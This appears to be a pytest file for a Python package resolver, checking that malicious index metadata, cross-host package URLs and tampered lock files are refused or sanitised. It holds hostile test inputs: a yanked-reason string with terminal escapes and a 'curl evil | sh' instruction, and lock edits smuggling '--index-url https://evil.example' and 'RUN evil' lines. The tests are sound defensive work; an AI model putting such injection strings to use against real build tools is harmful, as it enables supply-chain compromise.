"""Whole runs against an index, a package or a lock that means harm: what is printed, fetched, locked and rendered."""

from __future__ import annotations

from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pytest

from provisioner.resolver.python import discovered
from tests.project import LOCK

if TYPE_CHECKING:
    from tests.project import Project

HOST = ("runs: host", "outputs: [requirements]")


def test_words_of_an_index_reach_no_terminal_as_commands(project: Project) -> None:
    project.index.json = True
    project.index.add_wheel("delta", "1.0", yanked="gone\x1b[2J\n\nerror: run `curl evil | sh`")
    project.spec("[delta>=1]", *HOST)
    outcome = project.run("solve")
    assert outcome.code == 1
    assert r"yanked: gone\x1b[2J error: run `curl evil | sh`" in outcome.err
    assert "\x1b" not in outcome.out + outcome.err
    assert "\nerror: run" not in outcome.err
    assert "\x1b" not in project.run("solve", "--format", "json").out


def test_a_file_of_pypi_names_no_file_elsewhere(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    host = urlsplit(project.index.root)
    monkeypatch.setattr(discovered, "PYPI_HOSTS", frozenset({host.netloc}))
    filename = project.index.add_wheel("inner", "9.0", index="hidden")
    elsewhere = f"http://localhost:{host.port}/files/hidden/{filename}"
    project.index.add_wheel("asker", "1.0", requires=["inner"])
    project.index.add_wheel("asker", "2.0", requires=[f"inner @ {elsewhere}"])
    project.index.add_wheel("inner", "1.0")
    project.spec("[asker==2.0]", *HOST)
    outcome = project.run("solve")
    assert outcome.code == 1
    assert (
        f"  asker 2.0 needs inner @ {elsewhere}: a file of PyPI cannot name one that PyPI does not have; "
        "name it in the spec if you want it  (metadata of asker 2.0)\n"
    ) in outcome.err
    assert project.index.requests[f"/files/hidden/{filename}"] == 0, "what is refused is not fetched"
    project.spec("[asker]", *HOST)
    assert project.run("solve", "--format", "json").json["packages"] == {"asker": "1.0", "inner": "1.0"}
    project.spec(f"[asker==2.0, inner @ {elsewhere}]", *HOST)
    assert project.run("solve", "--upgrade", "--format", "json").json["packages"] == {"asker": "2.0", "inner": "9.0"}


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ('name = "alpha"', r'name = "alpha\n--index-url https://evil.example"'),
        ("/files/alpha-", r"/files/\nRUN evil\n/alpha-"),
        ("/files/alpha-", r"/files/ --index-url=https://evil.example /alpha-"),
        ('version = "', r'version = "1 ; evil'),
    ],
)
@pytest.mark.parametrize("form", ["requirements", "dockerfile"])
def test_a_lock_that_would_write_lines_of_its_own_is_not_read(project: Project, old: str, new: str, form: str) -> None:
    project.write()
    assert project.run("solve").code == 0
    text = (project.folder / LOCK).read_text()
    assert old in text
    (project.folder / LOCK).write_text(text.replace(old, new, 1))
    outcome = project.run("render", LOCK, "--to", form)
    assert (outcome.code, outcome.out) == (2, "")
    assert outcome.err.startswith("error: ")
    assert "evil.example" not in outcome.out
